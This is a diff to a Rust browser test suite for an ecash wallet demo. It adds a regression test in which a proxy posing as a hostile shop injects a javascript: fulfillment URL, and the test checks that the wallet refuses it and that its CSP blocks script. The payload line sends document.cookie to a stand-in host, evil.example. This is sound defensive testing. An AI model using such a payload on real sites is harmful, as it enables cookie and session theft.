@@ -14,7 +14,6 @@ fn money(s: &str) -> impl Fn(&str) -> bool + '_ {
 
 #[tokio::test(flavor = "current_thread")]
 async fn wallet_and_shop_in_the_browser() {
-    let _ = std::fs::remove_dir_all(root().join("target/e2e-screenshots"));
     let mut mint = Mint::start();
     let driver = Driver::start();
     let profiles = tempfile::tempdir().expect("profiles");
@@ -59,16 +58,17 @@ async fn wallet_and_shop_in_the_browser() {
     let coins = text(&a, "#denominations tbody").await;
     assert!(!coins.trim().is_empty(), "coins by denomination are listed");
 
-    // 3. The shop: pick an item.
+    // 3. The shop: pick an item and order it (a POST: looking stores nothing).
     a.goto(&format!("{url}/shop")).await.expect("shop");
     a.goto(&format!("{url}/shop/item/sticker"))
         .await
         .expect("item");
+    click(&a, "#buy").await;
     wait_text(&a, "#pay-link", "pay link", |t| {
         t.contains("Pay with Ecash")
     })
     .await;
-    screenshot(&a, "03-shop-item").await;
+    screenshot(&a, "03-shop-order").await;
 
     // 4. Pay through the link flow.
     click(&a, "#pay-link").await;
@@ -76,6 +76,16 @@ async fn wallet_and_shop_in_the_browser() {
     assert_eq!(amount.trim(), "0.99 DEMO");
     assert!(!text(&a, "#pay-description").await.trim().is_empty());
     assert!(text(&a, "#pay-merchant").await.contains("demo-bank"));
+    assert_eq!(
+        text(&a, "#pay-origin").await.trim(),
+        url,
+        "the shop's site is shown"
+    );
+    let here = a.current_url().await.expect("url").to_string();
+    assert!(
+        !here.contains("payreq"),
+        "the request left the address bar: {here}"
+    );
     screenshot(&a, "04-pay-confirm").await;
     click(&a, "#pay-confirm").await;
 
@@ -83,8 +93,12 @@ async fn wallet_and_shop_in_the_browser() {
     wait_text(&a, "#goods-title", "the goods", |t| !t.is_empty()).await;
     let here = a.current_url().await.expect("url").to_string();
     assert!(
-        here.contains("/shop/fulfillment/") && here.contains("payment_id="),
+        here.contains("/shop/fulfillment/") && here.contains("#payment_id="),
         "{here}"
+    );
+    assert!(
+        !here.contains('?'),
+        "the payment id is in the fragment only: {here}"
     );
     let receipt = text(&a, "#receipt").await;
     assert!(receipt.contains("0.99 DEMO"), "{receipt}");
@@ -130,6 +144,18 @@ async fn wallet_and_shop_in_the_browser() {
         }
     };
     screenshot(&a, "07-send-token").await;
+    let link = a
+        .find(fantoccini::Locator::Css("#token-link"))
+        .await
+        .expect("token link")
+        .attr("href")
+        .await
+        .expect("href")
+        .expect("a link");
+    assert!(
+        link.starts_with(&format!("{url}/#token=ecash1")) && !link.contains('?'),
+        "the token rides in the fragment: {link}"
+    );
     click(&a, "#nav-balance").await;
     wait_text(
         &a,
@@ -139,13 +165,28 @@ async fn wallet_and_shop_in_the_browser() {
     )
     .await;
 
+    // The second profile opens the link: the token arrives in the Receive screen.
     let b = driver.session(&profiles.path().join("b")).await;
     b.goto(&format!("{url}/")).await.expect("open wallet b");
     click(&b, "#create").await;
     wait_text(&b, "#seed-phrase", "seed b", |t| t.len() == 79).await;
     click(&b, "#seed-ok").await;
-    click(&b, "#nav-receive").await;
-    fill(&b, "#receive-token", &token).await;
+    b.goto(&link).await.expect("open the token link");
+    let got = {
+        let deadline = Instant::now() + Duration::from_secs(60);
+        loop {
+            let v = value(&b, "#receive-token").await;
+            if v.starts_with("ecash1") {
+                break v;
+            }
+            assert!(
+                Instant::now() < deadline,
+                "the link did not fill in the token"
+            );
+            tokio::time::sleep(Duration::from_millis(100)).await;
+        }
+    };
+    assert_eq!(got, token);
     click(&b, "#receive-btn").await;
     wait_text(&b, "#message", "received", |t| {
         t.starts_with("Received 1.00 DEMO")
@@ -159,6 +200,7 @@ async fn wallet_and_shop_in_the_browser() {
     b.goto(&format!("{url}/shop/item/coffee"))
         .await
         .expect("coffee");
+    click(&b, "#buy").await;
     click(&b, "#pay-link").await;
     wait_text(&b, "#pay-amount", "price", |t| t.contains("DEMO")).await;
     click(&b, "#pay-confirm").await;
@@ -180,6 +222,7 @@ async fn wallet_and_shop_in_the_browser() {
         a.goto(&format!("{url}/shop/item/haiku"))
             .await
             .expect("haiku");
+        click(&a, "#buy").await;
         click(&a, "#pay-link").await;
         let price = wait_text(&a, "#pay-amount", "price", |t| t.contains("DEMO")).await;
         assert_eq!(price.trim(), "0.25 DEMO");
@@ -232,4 +275,159 @@ async fn wallet_and_shop_in_the_browser() {
     );
     let _ = a.close().await;
     let _ = b.close().await;
+}
+
+/// Finding 1 in the browser: a shop that answers a payment with a
+/// `javascript:` fulfillment URL (or puts one in its payment request) gets
+/// nothing run: the wallet shows an error and stays; and the wallet page's
+/// CSP stops script URLs and inline script even if something tried.
+#[tokio::test(flavor = "current_thread")]
+async fn a_hostile_shop_runs_no_script_in_the_wallet() {
+    use std::sync::Arc;
+    use std::sync::atomic::{AtomicBool, Ordering};
+
+    let shop_port = free_port();
+    let shop = format!("http://127.0.0.1:{shop_port}");
+    let mint = Mint::start_with(&["--public-url", &shop], true);
+    let url = mint.url.clone();
+    // The hostile shop: the demo shop behind a proxy that rewrites its
+    // payment answers (and, when asked, its payment requests).
+    let in_payreq = Arc::new(AtomicBool::new(false));
+    let flag = in_payreq.clone();
+    let payload = "javascript:document.title='pwned';fetch('//evil.example/'+document.cookie)";
+    let rewrite: Arc<browser_e2e::proxy::Rewrite> =
+        Arc::new(move |path: &str, body: &mut Vec<u8>| {
+            let answer = path.starts_with("/shop/api/pay/");
+            let payreq = path.starts_with("/shop/api/orders/") && flag.load(Ordering::SeqCst);
+            if !(answer || payreq) {
+                return;
+            }
+            if let Ok(mut v) = serde_json::from_slice::<serde_json::Value>(body) {
+                v["fulfillment_url"] = serde_json::json!(payload);
+                *body = serde_json::to_vec(&v).unwrap_or_default();
+            }
+        });
+    let upstream = url.trim_start_matches("http://").to_owned();
+    let _proxy = browser_e2e::proxy::Proxy::start(shop_port, &upstream, Some(rewrite));
+
+    // The wallet page carries the strict policy.
+    let csp = reqwest::get(format!("{url}/"))
+        .await
+        .expect("wallet page")
+        .headers()
+        .get("content-security-policy")
+        .and_then(|v| v.to_str().ok())
+        .unwrap_or_default()
+        .to_owned();
+    assert!(
+        csp.contains("script-src 'self' 'wasm-unsafe-eval';") && !csp.contains("unsafe-inline"),
+        "{csp}"
+    );
+
+    let driver = Driver::start();
+    let profiles = tempfile::tempdir().expect("profiles");
+    let a = driver.session(&profiles.path().join("victim")).await;
+    a.goto(&format!("{url}/")).await.expect("open wallet");
+    click(&a, "#create").await;
+    wait_text(&a, "#seed-phrase", "the seed phrase", |t| t.len() == 79).await;
+    click(&a, "#seed-ok").await;
+    fill(&a, "#faucet-amount", "10").await;
+    click(&a, "#faucet-btn").await;
+    wait_text(&a, "#account-balance", "account", money("10.00 DEMO")).await;
+    fill(&a, "#withdraw-amount", "5").await;
+    click(&a, "#withdraw-btn").await;
+    wait_text(&a, "#message", "withdrawn", |t| t.starts_with("Withdrew")).await;
+    let title = a.title().await.expect("title");
+
+    let order = |item: &'static str| {
+        let shop = shop.clone();
+        async move {
+            let p: serde_json::Value = reqwest::Client::new()
+                .post(format!("{shop}/shop/api/orders"))
+                .json(&serde_json::json!({ "item_id": item }))
+                .send()
+                .await
+                .expect("order")
+                .json()
+                .await
+                .expect("payreq");
+            let u = format!(
+                "{shop}/shop/api/orders/{}",
+                p["payreq_id"].as_str().expect("id")
+            );
+            let enc: String = u
+                .bytes()
+                .map(|b| {
+                    if b.is_ascii_alphanumeric() {
+                        (b as char).to_string()
+                    } else {
+                        format!("%{b:02X}")
+                    }
+                })
+                .collect();
+            enc
+        }
+    };
+
+    // A payment request whose fulfillment URL is script: refused before paying.
+    in_payreq.store(true, Ordering::SeqCst);
+    let enc = order("haiku").await;
+    a.goto(&format!("{url}/#payreq={enc}"))
+        .await
+        .expect("pay link");
+    let msg = wait_text(&a, "#message", "refusal", |t| t.contains("cannot be paid")).await;
+    assert!(msg.contains("javascript:"), "{msg}");
+    assert!(text(&a, "#pay-confirm").await.is_empty(), "no pay button");
+    screenshot(&a, "12-hostile-payreq-refused").await;
+    in_payreq.store(false, Ordering::SeqCst);
+
+    // An honest-looking request, answered with a script URL after payment.
+    let enc = order("haiku").await;
+    a.goto(&format!("{url}/#payreq={enc}"))
+        .await
+        .expect("pay link");
+    let site = wait_text(&a, "#pay-origin", "the shop's site", |t| !t.is_empty()).await;
+    assert_eq!(site.trim(), shop);
+    click(&a, "#pay-confirm").await;
+    let msg = wait_text(&a, "#message", "the refused link", |t| {
+        t.contains("will not follow")
+    })
+    .await;
+    assert!(msg.contains("javascript:"), "{msg}");
+    tokio::time::sleep(Duration::from_millis(1500)).await;
+    let here = a.current_url().await.expect("url").to_string();
+    assert!(here.starts_with(&url), "the wallet navigated away: {here}");
+    assert_eq!(a.title().await.expect("title"), title, "the script ran");
+    screenshot(&a, "13-hostile-answer-refused").await;
+    click(&a, "#nav-history").await;
+    wait_text(&a, "#history", "the payment", |t| t.contains("Paid")).await;
+    let script_links = a
+        .execute(
+            "return document.querySelectorAll('a[href^=\"javascript:\"]').length",
+            vec![],
+        )
+        .await
+        .expect("count links");
+    assert_eq!(
+        script_links,
+        serde_json::json!(0),
+        "a script link on the page"
+    );
+
+    // Even a script URL or an inline script put in the page does nothing: the CSP.
+    a.execute(
+        "location.href = \"javascript:document.title='csp-bypassed'\"; \
+         const s = document.createElement('script'); \
+         s.textContent = \"document.title='inline-ran'\"; document.body.append(s);",
+        vec![],
+    )
+    .await
+    .expect("execute");
+    tokio::time::sleep(Duration::from_millis(800)).await;
+    assert_eq!(
+        a.title().await.expect("title"),
+        title,
+        "the CSP let script run"
+    );
+    let _ = a.close().await;
 }
